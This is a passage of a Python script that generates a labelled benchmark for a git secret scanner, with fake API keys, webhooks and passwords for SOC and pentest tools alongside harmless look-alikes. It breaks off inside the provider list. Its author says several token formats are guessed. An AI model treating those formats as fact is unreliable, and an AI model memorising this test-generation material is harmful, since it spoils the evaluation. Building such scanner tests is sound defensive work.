#!/usr/bin/env python3
"""Blind evaluation-set generator "ad" for a git pre-commit secret scanner.

EMPHASIS
    Security operations, threat intelligence and offensive-security tooling:
    the repositories of SOC teams, detection engineers and pentesters.  They are
    full of hashes, indicators, fingerprints and encoded blobs that look like
    secrets (MD5/SHA-1/SHA-256 IOCs, imphash, ssdeep/TLSH, JA3/JA4/JARM, YARA hex
    strings, Sigma rules, shellcode arrays, base64 `-enc` PowerShell, lab NTLM
    test vectors, STIX/MISP UUIDs, Splunk `$7$` ciphertext, SOPS/ansible-vault
    blobs ...) sitting next to the API keys of the tools they drive
    (VirusTotal, Shodan, Censys, AbuseIPDB, OTX, MISP, TheHive, Splunk HEC,
    Elastic, Wazuh, CrowdStrike, Tenable, Snyk, Semgrep, webhooks ...).

USAGE
    python3 gen_ad.py OUTDIR SEED

    Writes OUTDIR/pos/pNNNN/<relative path> (500 files, each with exactly one
    credential) and OUTDIR/neg/nNNNN/<relative path> (500 files with innocent
    look-alikes only), plus OUTDIR/manifest.jsonl
    ({"file","label","provider","kind","filetype"}) and OUTDIR/secrets.jsonl
    ({"file","needle","line"}) for positives.  Deterministic per SEED: the only
    randomness is random.Random(SEED).

NEEDLE CONVENTIONS
    * needle = the secret exactly as written in the file, without surrounding
      quotes; line = 1-based line of the needle (the needle occurs exactly once).
    * Webhook URLs (Slack, Teams, Discord, Tines): the needle is the whole URL,
      because the URL itself is the credential.
    * Two-part credentials (Censys id/secret, CrowdStrike client id/secret,
      Tenable/Nessus access/secret, Entra client id/secret, Qualys user/pw):
      the needle is the SECRET half; the id half is also present in the file
      (it is an identifier, not the credential).
    * Elastic API keys: the needle is the base64 of "id:api_key" as used in an
      `Authorization: ApiKey ...` header or `api_key =>` setting.
    * Splunk HEC tokens: the GUID after `Splunk ` / after `token =`.
    * Human-chosen passwords (Splunk admin, Wazuh, Qualys, msfrpcd -P,
      teamserver, SMTP) look like real human passwords.

DOUBTS (formats I am not sure of)
    * GreyNoise keys: modelled as 64 mixed-case alphanumerics; I know they are
      opaque alphanumeric strings but not the exact length/alphabet.
    * Hybrid Analysis v2 keys: modelled as 64 lowercase alphanumerics.
    * abuse.ch Auth-Key: modelled as 48 lowercase hex; not verified.
    * Spur tokens: modelled as 30 mixed alphanumerics; undocumented.
    * SentinelOne API tokens: older ones are 80 alphanumerics (used here);
      newer consoles issue JWT-like tokens.
    * GitGuardian API keys / service-account tokens: modelled as 69
      alphanumerics; GitGuardian's own docs call them "unprefixed".
    * Semgrep app tokens: modelled as 64 lowercase hex.
    * Atlassian API tokens: `ATATT3xFfGF0` + base64url body + `=` + 8 upper
      hex.  The trailing 8 hex are believed to be a CRC32 checksum; I compute
      CRC32 of the preceding text, but the exact checksummed span is unknown.
    * Torq webhook secrets, Burp Enterprise keys, SecurityTrails and Censys
      secrets: 32/40-char alphanumerics, from memory.
    * MaxMind license keys: new form `XXXXXX_<29 alnum>_mmk` (40 chars).
    * Splunk auth tokens: JWT whose header carries "kid":"splunk.secret";
      HS512 signature is random (86 base64url chars).
    * Teams webhook URL layout (webhookb2/<guid>@<guid>/IncomingWebhook/<32hex>/
      <guid>/V2<...>): the optional V2 suffix is omitted.
    * Kerberoast / NTLM material in negatives is limited to PUBLIC test vectors
      (NT hash of "", "password", "Password1", computed with an embedded MD4).
"""
import base64
import binascii
import json
import os
import random
import string
import struct
import sys
import zlib

N_POS = 500
N_NEG = 500

DIG = string.digits
LOW = string.ascii_lowercase
UPP = string.ascii_uppercase
HEXL = "0123456789abcdef"
HEXU = "0123456789ABCDEF"
ALNUM = DIG + UPP + LOW            # base62 order used by GitHub checksums
LALNUM = DIG + LOW
UALNUM = DIG + UPP
B64 = UPP + LOW + DIG + "+/"
B64URL = UPP + LOW + DIG + "-_"
B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def _has_seq(s, run=4):
    """True if s contains a 4-long ascending/descending/repeated run."""
    for i in range(len(s) - run + 1):
        w = s[i:i + run]
        d = [ord(w[j + 1]) - ord(w[j]) for j in range(run - 1)]
        if all(x == 1 for x in d) or all(x == -1 for x in d) or all(x == 0 for x in d):
            return True
    return False


class R:
    """Thin wrapper around random.Random(SEED) with token helpers."""

    def __init__(self, seed):
        self.g = random.Random(seed)

    def choice(self, seq):
        return self.g.choice(seq)

    def rint(self, a, b):
        return self.g.randint(a, b)

    def rnd(self):
        return self.g.random()

    def chance(self, p):
        return self.g.random() < p

    def sample(self, seq, k):
        return self.g.sample(seq, k)

    def shuffle(self, seq):
        self.g.shuffle(seq)

    def s(self, alphabet, n):
        while True:
            v = "".join(self.g.choice(alphabet) for _ in range(n))
            if n < 8 or not _has_seq(v):
                # require some mix for long alnum tokens
                if alphabet in (ALNUM,) and n >= 16:
                    if not (any(c.isdigit() for c in v) and any(c.isupper() for c in v)
                            and any(c.islower() for c in v)):
                        continue
                return v

    def hex(self, n):
        return self.s(HEXL, n)

    def HEX(self, n):
        return self.s(HEXU, n)

    def alnum(self, n):
        return self.s(ALNUM, n)

    def lalnum(self, n):
        return self.s(LALNUM, n)

    def ualnum(self, n):
        return self.s(UALNUM, n)

    def digits(self, n):
        v = self.s(DIG, n)
        if v[0] == "0":
            v = self.choice("123456789") + v[1:]
        return v

    def bytes_(self, n):
        return bytes(self.g.getrandbits(8) for _ in range(n))

    def b64(self, nbytes):
        while True:
            v = base64.b64encode(self.bytes_(nbytes)).decode()
            if not _has_seq(v):
                return v

    def b64url(self, n):
        return self.s(B64URL, n)

    def uuid(self, upper=False):
        h = self.hex(32)
        h = h[:12] + "4" + h[13:16] + self.choice("89ab") + h[17:]
        u = "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])
        return u.upper() if upper else u

    def ip(self):
        return "%d.%d.%d.%d" % (self.choice([23, 45, 62, 77, 91, 103, 141, 176, 185, 193, 194, 212]),
                                self.rint(1, 254), self.rint(1, 254), self.rint(1, 254))

    def lab_ip(self):
        return self.choice(["10.10.%d.%d", "10.0.%d.%d", "192.168.%d.%d", "172.16.%d.%d"]) % (
            self.rint(0, 60), self.rint(2, 250))


# ---------------------------------------------------------------------------
# Human passwords (human-chosen, not random) and small word lists
# ---------------------------------------------------------------------------
PW_WORDS = ["Marek", "winter", "Kestrel", "harbor", "Falcon", "nightowl", "Ravens", "copper",
            "Gdansk", "tundra", "Osprey", "lantern", "Brisbane", "maple", "Viking", "sundial",
            "Tr0ub4dor", "Zebra", "quartz", "Hamlet", "Orca", "blizzard", "Pelican", "ember",
            "Juniper", "saffron", "Dolomit", "kayak", "Baltic", "mosaic", "Lynx", "thistle",
            "Sparrow", "Granite", "Nebula", "Coyote", "walrus", "Monsoon", "Sherpa", "pistachio"]
PW_SYMS = ".!@%*-_+=?~^"


def human_password(r):
    w1, w2 = r.sample(PW_WORDS, 2)
    year = str(r.rint(1971, 2024))
    sym = r.choice(PW_SYMS)
    pats = [
        lambda: w1 + sym + year + w2.lower(),
        lambda: w1 + r.choice(["0", "1", "3"]) + w2.capitalize() + sym + str(r.rint(2, 99)),
        lambda: w1.lower().replace("a", "4").replace("e", "3") + sym + str(r.rint(10, 999)),
        lambda: w1.capitalize() + sym + w2.capitalize() + str(r.rint(10, 99)),
        lambda: w1.lower() + year[2:] + sym + w2.upper()[:3],
        lambda: w1 + sym + w2 + sym + year,
    ]
    while True:
        pw = r.choice(pats)()
        if 9 <= len(pw) <= 28 and "password" not in pw.lower() and not _has_seq(pw):
            return pw


def generated_password(r, n=32, syms=".*+?-_"):
    """Installer-style random password with all classes (e.g. Wazuh)."""
    while True:
        v = "".join(r.choice(ALNUM + syms) for _ in range(n))
        if (any(c in syms for c in v) and any(c.isdigit() for c in v)
                and any(c.isupper() for c in v) and any(c.islower() for c in v)
                and not _has_seq(v)):
            return v


# ---------------------------------------------------------------------------
# Structured token formats
# ---------------------------------------------------------------------------
def b62(n, width):
    out = ""
    while n:
        n, m = divmod(n, 62)
        out = ALNUM[m] + out
    return out.rjust(width, "0")


def github_token(r, prefix="ghp_"):
    body = r.alnum(30)
    return prefix + body + b62(zlib.crc32(body.encode()) & 0xFFFFFFFF, 6)


def atlassian_token(r):
    head = "ATATT3xFfGF0" + r.b64url(r.rint(170, 178))
    return head + "=" + ("%08X" % (zlib.crc32(head.encode()) & 0xFFFFFFFF))


def slack_webhook(r):
    return "https://hooks.slack.com/services/T%s/B%s/%s" % (
        r.ualnum(r.choice([8, 10])), r.ualnum(r.choice([8, 10])), r.alnum(24))


def slack_bot(r):
    return "xoxb-%s-%s-%s" % (r.digits(r.choice([11, 12, 13])), r.digits(13), r.alnum(24))


def teams_webhook(r):
    org = r.choice(["contoso", "northwindsec", "fabrikam", "acmecorp", "tailspin", "woodgrove"])
    return "https://%s.webhook.office.com/webhookb2/%s@%s/IncomingWebhook/%s/%s" % (
        org, r.uuid(), r.uuid(), r.hex(32), r.uuid())


def discord_webhook(r):
    return "https://discord.com/api/webhooks/%s/%s" % (r.digits(r.choice([18, 19])), r.b64url(68))


def tines_webhook(r):
    tenant = r.choice(["bold-river-1842", "soc-acme", "quiet-forest-6637", "fabrikam-sec", "tidal-sun-2091"])
    return "https://%s.tines.com/webhook/%s/%s" % (tenant, r.hex(32), r.hex(32))


def telegram_bot(r):
    return "%s:AA%s" % (r.digits(r.choice([9, 10])), r.b64url(33))


def sendgrid_key(r):
    return "SG.%s.%s" % (r.b64url(22), r.b64url(43))


def aws_key_id(r):
    return "AKIA" + r.s(UPP + "234567", 16)


def aws_secret(r):
    return r.s(UPP + LOW + DIG + "+/", 40)


def google_key(r):
    return "AIza" + r.s(UPP + LOW + DIG + "-_", 35)


def maxmind_key(r):
    return "%s_%s_mmk" % (r.alnum(6), r.alnum(29))


def entra_secret(r):
    al = UPP + LOW + DIG + "_.~-"
    return r.s(al, 3) + r.choice(DIG) + "Q~" + r.s(al, 34)


def elastic_pair(r):
    return "%s:%s" % (r.b64url(20), r.b64url(22))


def elastic_b64(r):
    return base64.b64encode(elastic_pair(r).encode()).decode()


def b64url_nopad(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def splunk_jwt(r):
    hdr = {"kid": "splunk.secret", "alg": "HS512", "ver": "v2", "ttyp": "static"}
    iat = r.rint(1690000000, 1735000000)
    who = r.choice(["svc_soar", "svc_ingest", "detect-eng", "admin"])
    pl = {"iss": "%s from %s" % (who, r.choice(["sh-i-0a7f", "splunk-sh01", "es-prod-sh2"])),
          "sub": who, "aud": r.choice(["soar", "automation", "ci-detections"]), "idp": "Splunk",
          "jti": r.hex(64), "iat": iat, "exp": iat + 31536000, "nbr": iat}
    return "%s.%s.%s" % (b64url_nopad(json.dumps(hdr, separators=(",", ":")).encode()),
                         b64url_nopad(json.dumps(pl, separators=(",", ":")).encode()),
                         r.b64url(86))


def sops_enc(r, n=None):
    n = n or r.rint(24, 60)
    return "ENC[AES256_GCM,data:%s,iv:%s,tag:%s,type:str]" % (
        r.b64(n), r.b64(32), r.b64(16))


def splunk_enc(r):
    return "$7$" + r.b64(r.choice([36, 45, 51]))


# MD4 (for NT hashes of PUBLIC test-vector passwords only)
def _md4(msg):
    def lrot(x, n):
        return ((x << n) | (x >> (32 - n))) & 0xFFFFFFFF
    h = [0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476]
    ml = len(msg) * 8
    msg += b"\x80" + b"\x00" * ((55 - len(msg)) % 64) + struct.pack("<Q", ml)
    for i in range(0, len(msg), 64):
        X = list(struct.unpack("<16I", msg[i:i + 64]))
        a, b, c, d = h
        F = lambda x, y, z: (x & y) | (~x & z)
        G = lambda x, y, z: (x & y) | (x & z) | (y & z)
        H = lambda x, y, z: x ^ y ^ z
        for k, s in zip(range(16), [3, 7, 11, 19] * 4):
            a, b, c, d = d, lrot((a + F(b, c, d) + X[k]) & 0xFFFFFFFF, s), b, c
        for k, s in zip([0, 4, 8, 12, 1, 5, 9, 13, 2, 6, 10, 14, 3, 7, 11, 15], [3, 5, 9, 13] * 4):
            a, b, c, d = d, lrot((a + G(b, c, d) + X[k] + 0x5A827999) & 0xFFFFFFFF, s), b, c
        for k, s in zip([0, 8, 4, 12, 2, 10, 6, 14, 1, 9, 5, 13, 3, 11, 7, 15], [3, 9, 11, 15] * 4):
            a, b, c, d = d, lrot((a + H(b, c, d) + X[k] + 0x6ED9EBA1) & 0xFFFFFFFF, s), b, c
        h = [(x + y) & 0xFFFFFFFF for x, y in zip(h, [a, b, c, d])]
    return struct.pack("<4I", *h).hex()


def nt_hash(pw):
    return _md4(pw.encode("utf-16le"))


# bech32 (for bc1q ransom-note addresses in negatives)
_BECH = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def _bech32_polymod(values):
    gen = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = (chk & 0x1ffffff) << 5 ^ v
        for i in range(5):
            chk ^= gen[i] if ((b >> i) & 1) else 0
    return chk


def bech32_addr(r):
    prog = r.bytes_(20)
    acc, bits, data = 0, 0, [0]
    for b in prog:
        acc = (acc << 8) | b
        bits += 8
        while bits >= 5:
            bits -= 5
            data.append((acc >> bits) & 31)
    if bits:
        data.append((acc << (5 - bits)) & 31)
    hrp = "bc"
    exp = [ord(x) >> 5 for x in hrp] + [0] + [ord(x) & 31 for x in hrp]
    pm = _bech32_polymod(exp + data + [0] * 6) ^ 1
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    return hrp + "1" + "".join(_BECH[d] for d in data + chk)


# ---------------------------------------------------------------------------
# Provider / kind specifications
#   role: header | query | basic | password | url | xapikeys | path | tg | bare
#   ctx : renderers the credential is realistically found in
# ---------------------------------------------------------------------------
G_API = ["py", "py", "ipynb", "ps1", "sh", "env", "ini", "yaml", "json", "toml", "tf",
         "docker", "compose", "ansible", "md", "k8s", "csv", "soar_yaml", "soar_json"]
G_PW = ["py", "sh", "env", "yaml", "compose", "ansible", "md", "k8s", "ps1", "ini"]
G_HOOK = ["py", "sh", "env", "yaml", "json", "soar_yaml", "soar_json", "ansible", "md", "ps1", "k8s"]

CORPS = ["acme", "northwind", "contoso", "fabrikam", "globex", "initech", "umbrella-sec",
         "tailspin", "woodgrove", "blueyonder", "litware", "adatum", "proseware"]


def S(prov, kind, gen, env, role, ctx, **kw):
    d = dict(prov=prov, kind=kind, gen=gen, env=env, role=role, ctx=ctx)
    d.update(kw)
    return d


SPECS = [
    S("virustotal", "api_key", lambda r: r.hex(64), ["VT_API_KEY", "VIRUSTOTAL_API_KEY", "VT_KEY"],
      "header", G_API + ["sdk", "sdk", "ossec", "logstash"], hdr="x-apikey",
      url="https://www.virustotal.com/api/v3/files/{sha256}", sdkf="vt", ckey="apikey", w=2),
    S("shodan", "api_key", lambda r: r.alnum(32), ["SHODAN_API_KEY", "SHODAN_KEY"],
      "query", G_API + ["sdk", "sdk"], qp="key", url="https://api.shodan.io/shodan/host/{ip}",
      sdkf="shodan", ckey="api_key"),
    S("censys", "api_secret", lambda r: r.alnum(32), ["CENSYS_API_SECRET", "CENSYS_SECRET"],
      "basic", G_API + ["sdk"], idgen=lambda r: r.uuid(), idenv="CENSYS_API_ID",
      url="https://search.censys.io/api/v2/hosts/{ip}", sdkf="censys", ckey="api_secret"),
    S("urlscan", "api_key", lambda r: r.uuid(), ["URLSCAN_API_KEY", "URLSCAN_KEY"],
      "header", G_API, hdr="API-Key", url="https://urlscan.io/api/v1/scan/", method="post",
      ckey="api_key"),
    S("abuseipdb", "api_key", lambda r: r.hex(80), ["ABUSEIPDB_API_KEY", "ABUSEIPDB_KEY"],
      "header", G_API + ["logstash"], hdr="Key",
      url="https://api.abuseipdb.com/api/v2/check?ipAddress={ip}&maxAgeInDays=90", ckey="api_key"),
    S("greynoise", "api_key", lambda r: r.alnum(64), ["GREYNOISE_API_KEY", "GN_API_KEY"],
      "header", G_API + ["sdk"], hdr="key", url="https://api.greynoise.io/v3/community/{ip}",
      sdkf="greynoise", ckey="api_key"),
    S("alienvault_otx", "api_key", lambda r: r.hex(64), ["OTX_API_KEY", "ALIENVAULT_OTX_KEY"],
      "header", G_API + ["sdk", "zeek_sh"], hdr="X-OTX-API-KEY",
      url="https://otx.alienvault.com/api/v1/indicators/IPv4/{ip}/general", sdkf="otx", ckey="api_key"),
    S("hybrid_analysis", "api_key", lambda r: r.lalnum(64), ["HYBRID_ANALYSIS_API_KEY", "HA_API_KEY"],
      "header", G_API, hdr="api-key", url="https://www.hybrid-analysis.com/api/v2/search/hash",
      method="post", ckey="api_key"),
    S("abuse_ch", "auth_key", lambda r: r.hex(48), ["ABUSECH_AUTH_KEY", "MALWAREBAZAAR_AUTH_KEY", "THREATFOX_AUTH_KEY"],
      "header", G_API + ["zeek_sh"], hdr="Auth-Key", url="https://mb-api.abuse.ch/api/v1/", method="post",
      ckey="auth_key"),
    S("ipinfo", "token", lambda r: r.hex(14), ["IPINFO_TOKEN", "IPINFO_API_TOKEN"],
      "query", G_API + ["sdk", "logstash"], qp="token", url="https://ipinfo.io/{ip}/json", sdkf="ipinfo",
      ckey="token"),
    S("securitytrails", "api_key", lambda r: r.alnum(32), ["SECURITYTRAILS_API_KEY", "ST_API_KEY"],
      "header", G_API, hdr="APIKEY", url="https://api.securitytrails.com/v1/domain/{domain}/subdomains",
      ckey="api_key"),
    S("haveibeenpwned", "api_key", lambda r: r.hex(32), ["HIBP_API_KEY", "HAVEIBEENPWNED_KEY"],
      "header", G_API, hdr="hibp-api-key",
      url="https://haveibeenpwned.com/api/v3/breachedaccount/{email}?truncateResponse=false", ckey="api_key"),
    S("hunter_io", "api_key", lambda r: r.hex(40), ["HUNTER_API_KEY", "HUNTERIO_KEY"],
      "query", G_API, qp="api_key", url="https://api.hunter.io/v2/domain-search?domain={domain}",
      ckey="api_key"),
    S("spur", "token", lambda r: r.alnum(30), ["SPUR_TOKEN", "SPUR_API_TOKEN"],
      "header", G_API, hdr="Token", url="https://api.spur.us/v2/context/{ip}", ckey="token"),
    S("splunk", "hec_token", lambda r: r.uuid(upper=r.chance(0.6)), ["SPLUNK_HEC_TOKEN", "HEC_TOKEN"],
      "header", ["py", "sh", "ps1", "env", "yaml", "compose", "ansible", "md", "k8s", "logstash",
                 "splunk_inputs", "splunk_inputs", "splunk_outputs", "compose_logdriver", "json"],
      hdr="Authorization", scheme="Splunk ", url="https://hec.{corp}.internal:8088/services/collector/event",
      method="post", ckey="token", w=2),
    S("splunk", "auth_token", splunk_jwt, ["SPLUNK_TOKEN", "SPLUNK_AUTH_TOKEN"],
      "header", ["py", "sh", "ps1", "env", "yaml", "json", "soar_yaml", "gha", "ipynb"],
      hdr="Authorization", scheme="Bearer ", url="https://splunk-sh.{corp}.internal:8089/services/search/jobs/export",
      method="post", ckey="token"),
    S("splunk", "password", human_password, ["SPLUNK_PASSWORD", "SPLUNK_ADMIN_PASSWORD"],
      "password", ["compose", "ansible", "splunk_server", "splunk_auth", "sh", "md", "py", "env", "k8s"],
      user="admin", url="https://splunk-sh.{corp}.internal:8089/services/auth/login", ckey="password", w=2),
    S("elastic", "api_key", elastic_b64, ["ELASTIC_API_KEY", "ES_API_KEY"],
      "header", ["py", "sh", "ps1", "env", "yaml", "json", "ipynb", "compose", "k8s", "gha", "soar_yaml"],
      hdr="Authorization", scheme="ApiKey ", url="https://es01.{corp}.internal:9200/logs-*/_search",
      method="post", ckey="api_key"),
    S("elastic", "api_key_id_secret", elastic_pair, ["ES_API_KEY", "ELASTIC_API_KEY"],
      "bare", ["logstash", "filebeat", "elastic_yml"], ckey="api_key"),
    S("elastic", "password", human_password, ["ELASTIC_PASSWORD", "ES_PASSWORD"],
      "password", ["elastic_yml", "compose", "logstash", "elastalert", "py", "sh", "ansible", "env", "k8s"],
      user="elastic", url="https://es01.{corp}.internal:9200/_cluster/health", ckey="password"),
    S("wazuh", "api_password", lambda r: generated_password(r, r.choice([16, 24, 32]), ".*+?"),
      ["WAZUH_API_PASSWORD", "API_PASSWORD"], "password",
      ["py", "sh", "compose", "ansible", "wazuh_yml", "env", "md"], user="wazuh-wui",
      url="https://wazuh-manager.{corp}.internal:55000/security/user/authenticate", ckey="password"),
    S("wazuh", "authd_password", lambda r: r.hex(32), ["WAZUH_REGISTRATION_PASSWORD", "AUTHD_PASS"],
      "bare", ["authd_sh", "docker", "ansible", "ps1_agent", "md"], ckey="registration_password"),
    S("thehive", "api_key", lambda r: r.alnum(32), ["THEHIVE_API_KEY", "HIVE_API_KEY"],
      "header", G_API + ["sdk"], hdr="Authorization", scheme="Bearer ",
      url="https://thehive.{corp}.internal:9000/api/v1/alert", method="post", sdkf="thehive", ckey="api_key"),
    S("cortex", "api_key", lambda r: r.alnum(32), ["CORTEX_API_KEY", "CORTEX_KEY"],
      "header", ["hocon", "hocon", "py", "sdk", "env", "yaml", "sh", "compose"], hdr="Authorization",
      scheme="Bearer ", url="https://cortex.{corp}.internal:9001/api/analyzer", sdkf="cortex", ckey="key"),
    S("misp", "auth_key", lambda r: r.alnum(40), ["MISP_KEY", "MISP_AUTH_KEY", "MISP_API_KEY"],
      "header", G_API + ["sdk", "sdk", "hocon", "keys_py"], hdr="Authorization",
      url="https://misp.{corp}.internal/attributes/restSearch", method="post", sdkf="pymisp", ckey="key", w=2),
    S("misp", "security_salt", lambda r: r.alnum(32), ["MISP_SALT"], "bare", ["php"], ckey="salt"),
    S("opencti", "token", lambda r: r.uuid(), ["OPENCTI_TOKEN", "OPENCTI_ADMIN_TOKEN"],
      "header", ["py", "sdk", "compose", "env", "yaml", "k8s", "ansible", "md"], hdr="Authorization",
      scheme="Bearer ", url="https://opencti.{corp}.internal/graphql", method="post", sdkf="pycti",
      ckey="token"),
    S("fleetdm", "osquery_enroll_secret", lambda r: r.b64(24), ["FLEET_ENROLL_SECRET", "ENROLL_SECRET"],
      "bare", ["fleet_sh", "ansible", "docker", "fleet_yaml", "k8s", "env"], ckey="enroll_secret"),
    S("velociraptor", "gui_password", human_password, ["VELOX_PASSWORD", "VELOCIRAPTOR_PASSWORD"],
      "password", ["compose", "env", "sh", "md", "ansible"], user="admin",
      url="https://velociraptor.{corp}.internal:8889/api/v1/GetUserUITraits", ckey="password"),
    S("crowdstrike", "client_secret", lambda r: r.alnum(40), ["FALCON_CLIENT_SECRET", "CS_CLIENT_SECRET"],
      "basic", ["py", "sdk", "sdk", "env", "yaml", "tf", "gha", "ansible", "ps1", "json", "ipynb"],
      idgen=lambda r: r.hex(32), idenv="FALCON_CLIENT_ID", url="https://api.crowdstrike.com/oauth2/token",
      method="post", sdkf="falconpy", ckey="client_secret"),
    S("sentinelone", "api_token", lambda r: r.alnum(80), ["S1_API_TOKEN", "SENTINELONE_API_TOKEN"],
      "header", G_API, hdr="Authorization", scheme="ApiToken ",
      url="https://usea1-{corp}.sentinelone.net/web/api/v2.1/threats?limit=50", ckey="api_token"),
    S("microsoft_entra", "client_secret", entra_secret, ["AZURE_CLIENT_SECRET", "MDE_CLIENT_SECRET", "SENTINEL_APP_SECRET"],
      "basic", ["py", "ps1", "env", "tf", "yaml", "json", "gha", "ipynb", "k8s"], idgen=lambda r: r.uuid(),
      idenv="AZURE_CLIENT_ID", url="https://login.microsoftonline.com/{tenant}/oauth2/v2.0/token",
      method="post", ckey="client_secret"),
    S("microsoft_sentinel", "workspace_shared_key", lambda r: r.b64(64), ["WORKSPACE_KEY", "LA_SHARED_KEY", "SENTINEL_WORKSPACE_KEY"],
      "bare", ["py", "ps1", "logstash", "env", "ansible", "yaml", "tf"], idgen=lambda r: r.uuid(),
      idenv="WORKSPACE_ID", ckey="shared_key"),
    S("tenable", "secret_key", lambda r: r.hex(64), ["TIO_SECRET_KEY", "TENABLE_SECRET_KEY"],
      "xapikeys", ["py", "sdk", "sh", "env", "yaml", "ps1", "ini", "json"], idgen=lambda r: r.hex(64),
      idenv="TIO_ACCESS_KEY", url="https://cloud.tenable.com/scans", sdkf="tenable", ckey="secret_key"),
    S("nessus", "secret_key", lambda r: r.hex(64), ["NESSUS_SECRET_KEY", "NESSUS_SECRETKEY"],
      "xapikeys", ["py", "sh", "env", "yaml", "ps1", "ini"], idgen=lambda r: r.hex(64),
      idenv="NESSUS_ACCESS_KEY", url="https://nessus.{corp}.internal:8834/scans", ckey="secret_key"),
    S("qualys", "password", human_password, ["QUALYS_PASSWORD", "QG_PASSWORD"],
      "password", ["qualys_ini", "py", "sh", "env", "yaml", "ps1"], user="{corpshort}_as{n}",
      url="https://qualysapi.qg2.apps.qualys.com/api/2.0/fo/scan/?action=list", ckey="password"),
    S("rapid7", "insight_api_key", lambda r: r.uuid(), ["R7_API_KEY", "INSIGHT_API_KEY", "IVM_API_KEY"],
      "header", G_API, hdr="X-Api-Key", url="https://us.api.insight.rapid7.com/validate", ckey="api_key"),
    S("snyk", "token", lambda r: r.uuid(), ["SNYK_TOKEN", "SNYK_API_TOKEN"],
      "header", ["gha", "gha", "sh", "snyk_cli", "env", "docker", "py", "ps1", "yaml"], hdr="Authorization",
      scheme="token ", url="https://api.snyk.io/rest/orgs?version=2024-06-10", ckey="token"),
    S("semgrep", "app_token", lambda r: r.hex(64), ["SEMGREP_APP_TOKEN"],
      "header", ["gha", "gha", "sh", "env", "docker", "yaml"], hdr="Authorization", scheme="Bearer ",
      url="https://semgrep.dev/api/v1/deployments", ckey="token"),
    S("gitguardian", "api_key", lambda r: r.alnum(69), ["GITGUARDIAN_API_KEY", "GG_API_KEY"],
      "header", ["gha", "gha", "sh", "env", "py", "yaml", "docker"], hdr="Authorization", scheme="Token ",
      url="https://api.gitguardian.com/v1/incidents/secrets", ckey="api_key"),
    S("portswigger", "burp_enterprise_api_key", lambda r: r.alnum(32), ["BURP_API_KEY", "BURP_ENTERPRISE_KEY"],
      "header", ["py", "sh", "env", "yaml", "gha", "json"], hdr="Authorization",
      url="https://burp-ent.{corp}.internal/graphql/v1", method="post", ckey="api_key"),
    S("portswigger", "burp_rest_api_key", lambda r: r.alnum(32), ["BURP_REST_KEY", "BURP_API_KEY"],
      "path", ["py", "sh", "md", "env"], url="http://127.0.0.1:1337/{key}/v0.1/scan", ckey="api_key"),
    S("metasploit", "rpc_password", human_password, ["MSF_RPC_PASS", "MSFRPC_PASSWORD"],
      "bare", ["msf_sh", "msf_rc", "msf_py", "md", "compose", "systemd_msf"], ckey="password"),
    S("cobaltstrike", "teamserver_password", human_password, ["TS_PASSWORD", "TEAMSERVER_PASS"],
      "bare", ["cs_md", "cs_sh", "systemd_cs", "ansible"], ckey="teamserver_password"),
    S("slack", "incoming_webhook", slack_webhook, ["SLACK_WEBHOOK_URL", "SLACK_WEBHOOK"],
      "url", G_HOOK + ["ossec", "elastalert", "elastalert", "gha"], ckey="webhook_url", w=2),
    S("slack", "bot_token", slack_bot, ["SLACK_BOT_TOKEN", "SLACK_TOKEN"],
      "header", ["py", "sh", "env", "yaml", "elastalert", "k8s", "compose"], hdr="Authorization",
      scheme="Bearer ", url="https://slack.com/api/chat.postMessage", method="post", ckey="token"),
    S("microsoft_teams", "incoming_webhook", teams_webhook, ["TEAMS_WEBHOOK_URL", "MS_TEAMS_WEBHOOK"],
      "url", G_HOOK + ["elastalert"], ckey="webhook_url"),
    S("discord", "webhook", discord_webhook, ["DISCORD_WEBHOOK_URL", "DISCORD_WEBHOOK"],
      "url", ["py", "sh", "env", "yaml", "md", "ps1"], ckey="webhook_url"),
    S("pagerduty", "routing_key", lambda r: r.hex(32), ["PAGERDUTY_ROUTING_KEY", "PD_INTEGRATION_KEY"],
      "bare", ["elastalert", "ossec", "py", "yaml", "json", "env", "soar_yaml", "ansible"], ckey="routing_key"),
    S("atlassian", "api_token", atlassian_token, ["JIRA_API_TOKEN", "ATLASSIAN_TOKEN"],
      "basic", ["py", "soar_yaml", "soar_json", "env", "sh", "yaml", "ps1"], idgen=None,
      user="soar-bot@{corp}.com", url="https://{corp}.atlassian.net/rest/api/3/issue", method="post",
      ckey="api_token"),
    S("smtp", "password", human_password, ["SMTP_PASSWORD", "ALERT_SMTP_PASS"],
      "bare", ["elastalert_smtp", "py", "yaml", "ini", "php_email", "env", "ansible"], ckey="smtp_password"),
    S("sendgrid", "api_key", sendgrid_key, ["SENDGRID_API_KEY"],
      "header", ["py", "env", "yaml", "sh", "k8s", "json"], hdr="Authorization", scheme="Bearer ",
      url="https://api.sendgrid.com/v3/mail/send", method="post", ckey="api_key"),
    S("proofpoint_et", "etpro_secret_code", lambda r: r.hex(16), ["ETPRO_CODE", "ET_PRO_KEY"],
      "bare", ["suricata_sh", "suricata_yaml", "ansible", "docker"], ckey="secret-code"),
    S("snort", "oinkcode", lambda r: r.hex(40), ["OINKCODE", "SNORT_OINKCODE"],
      "bare", ["pulledpork", "ansible", "sh", "docker"], ckey="oinkcode"),
    S("maxmind", "license_key", maxmind_key, ["GEOIPUPDATE_LICENSE_KEY", "MAXMIND_LICENSE_KEY"],
      "bare", ["geoip_conf", "docker", "compose", "ansible", "env", "gha"], ckey="license_key"),
    S("tines", "webhook_url", tines_webhook, ["TINES_WEBHOOK_URL", "TINES_WEBHOOK"],
      "url", ["py", "sh", "json", "yaml", "env", "ossec", "elastalert"], ckey="webhook_url"),
    S("torq", "webhook_secret", lambda r: r.alnum(40), ["TORQ_WEBHOOK_SECRET", "TORQ_SECRET"],
      "header", ["py", "sh", "env", "yaml", "json"], hdr="X-Torq-Secret",
      url="https://hooks.torq.io/v1/webhooks/{uuid}", method="post", ckey="secret"),
    S("github", "personal_access_token", github_token, ["GITHUB_TOKEN", "GH_PAT", "SIGMA_REPO_TOKEN"],
      "header", ["gha", "sh", "env", "py", "yaml", "md"], hdr="Authorization", scheme="token ",
